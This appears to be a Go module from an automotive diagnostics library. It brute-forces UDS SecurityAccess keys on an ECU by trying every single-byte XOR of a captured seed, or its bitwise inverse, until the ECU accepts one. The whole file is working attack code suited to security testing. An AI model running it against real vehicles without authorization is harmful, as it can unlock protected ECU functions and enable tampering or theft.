package uds

import (
	"bytes"
	"context"
	"encoding/hex"
	"fmt"
	"strings"
)

type CrackState int

const (
	SeedCaptured CrackState = iota
	Searching
	KeyAccepted
	Exhausted
)

func (s CrackState) String() string {
	switch s {
	case SeedCaptured:
		return "SeedCaptured"
	case Searching:
		return "Searching"
	case KeyAccepted:
		return "KeyAccepted"
	case Exhausted:
		return "Exhausted"
	default:
		return "Unknown"
	}
}

type Strategy int

const (
	StrategyXOR Strategy = iota
	StrategyBitInversion
)

func (s Strategy) String() string {
	switch s {
	case StrategyXOR:
		return "single byte XOR"
	case StrategyBitInversion:
		return "bitwise inversion"
	default:
		return "unknown"
	}
}

// SecurityAccessSession tracks one key search against a captured seed.
// A session runs exactly one strategy; trying another one needs a new session.
type SecurityAccessSession struct {
	Seed []byte
	// Header is the sendKey header (27 <even level>) the key is appended to.
	Header   []byte
	Strategy Strategy
	State    CrackState
	// Candidate is the index of the last candidate submitted.
	Candidate int
	Attempts  int
	Key       []byte
	// Response is the frame that accepted Key.
	Response []byte
}

func NewSession(seed, header []byte) *SecurityAccessSession {
	return &SecurityAccessSession{
		Seed:   append([]byte(nil), seed...),
		Header: append([]byte(nil), header...),
		State:  SeedCaptured,
	}
}

func (s *SecurityAccessSession) Found() bool {
	return s.State == KeyAccepted
}

// AlreadyUnlocked reports an all zero seed, which ECUs send when access is
// already granted.
func (s *SecurityAccessSession) AlreadyUnlocked() bool {
	return len(s.Seed) > 0 && bytes.Count(s.Seed, []byte{0}) == len(s.Seed)
}

// XORCandidate returns seed with every byte XORed with the same candidate byte.
func XORCandidate(seed []byte, candidate byte) []byte {
	key := make([]byte, len(seed))
	for i, b := range seed {
		key[i] = b ^ candidate
	}
	return key
}

// InvertHexSeed complements a hex encoded seed within its own digit width,
// i.e. ^seed & (1<<(4*len(seedHex)) - 1), and returns the key bytes.
func InvertHexSeed(seedHex string) ([]byte, error) {
	seedHex = strings.TrimSpace(seedHex)
	if seedHex == "" {
		return nil, &InputError{Input: seedHex, Reason: "empty seed"}
	}
	if len(seedHex)%2 != 0 {
		return nil, &InputError{Input: seedHex, Reason: "odd number of hex digits"}
	}
	seed, err := hex.DecodeString(seedHex)
	if err != nil {
		return nil, &InputError{Input: seedHex, Reason: "invalid hex digit"}
	}
	key := make([]byte, len(seed))
	for i, b := range seed {
		key[i] = ^b
	}
	return key, nil
}

// Attempt describes one submitted key candidate.
type Attempt struct {
	Candidate int
	Key       []byte
	Request   Request
	Outcome   Outcome
}

// Cracker submits candidate keys for a captured seed. It never touches the
// requestSeed side; the caller supplies the sendKey header.
type Cracker struct {
	client *Client
	// OnAttempt, when set, is called after every submitted candidate.
	OnAttempt func(Attempt)
}

func NewCracker(c *Client) *Cracker {
	return &Cracker{client: c}
}

// CrackByXOR sweeps the 256 single byte XOR candidates of seed and stops at
// the first key the ECU accepts. The returned session is Exhausted when none
// was accepted.
func (c *Cracker) CrackByXOR(ctx context.Context, seed, header []byte) (*SecurityAccessSession, error) {
	s := NewSession(seed, header)
	return s, c.Run(ctx, s, StrategyXOR)
}

// CrackByBitInversion submits the single bitwise complement of seedHex.
func (c *Cracker) CrackByBitInversion(ctx context.Context, seedHex string, header []byte) (*SecurityAccessSession, error) {
	if _, err := InvertHexSeed(seedHex); err != nil {
		return nil, err
	}
	seed, _ := hex.DecodeString(strings.TrimSpace(seedHex))
	s := NewSession(seed, header)
	return s, c.Run(ctx, s, StrategyBitInversion)
}

// Run drives a fresh session with the given strategy. A transport failure or
// cancellation aborts the search and leaves the session Searching.
func (c *Cracker) Run(ctx context.Context, s *SecurityAccessSession, strategy Strategy) error {
	if s.State != SeedCaptured {
		return ErrSessionStarted
	}
	if len(s.Seed) == 0 {
		return &InputError{Reason: "empty seed"}
	}
	if len(s.Header) == 0 {
		return &InputError{Reason: "empty key header"}
	}
	s.Strategy = strategy
	s.State = Searching

	switch strategy {
	case StrategyXOR:
		for candidate := 0; candidate <= 0xFF; candidate++ {
			ok, err := c.try(ctx, s, candidate, XORCandidate(s.Seed, byte(candidate)))
			if err != nil || ok {
				return err
			}
		}
	case StrategyBitInversion:
		key, err := InvertHexSeed(hex.EncodeToString(s.Seed))
		if err != nil {
			return err
		}
		ok, err := c.try(ctx, s, 0, key)
		if err != nil || ok {
			return err
		}
	default:
		return &InputError{Input: fmt.Sprint(int(strategy)), Reason: "unknown strategy"}
	}
	s.State = Exhausted
	return nil
}

func (c *Cracker) try(ctx context.Context, s *SecurityAccessSession, candidate int, key []byte) (bool, error) {
	req := make(Request, 0, len(s.Header)+len(key))
	req = append(req, s.Header...)
	req = append(req, key...)

	s.Candidate = candidate
	s.Attempts++
	ex, err := c.client.Exchange(ctx, req)
	if err != nil {
		return false, err
	}
	if c.OnAttempt != nil {
		c.OnAttempt(Attempt{Candidate: candidate, Key: key, Request: req, Outcome: ex.Outcome})
	}
	// negative, malformed and silent replies all mean the candidate failed
	if ex.Outcome.Kind != Positive {
		return false, nil
	}
	s.State = KeyAccepted
	s.Key = key
	s.Response = ex.First()
	return true, nil
}
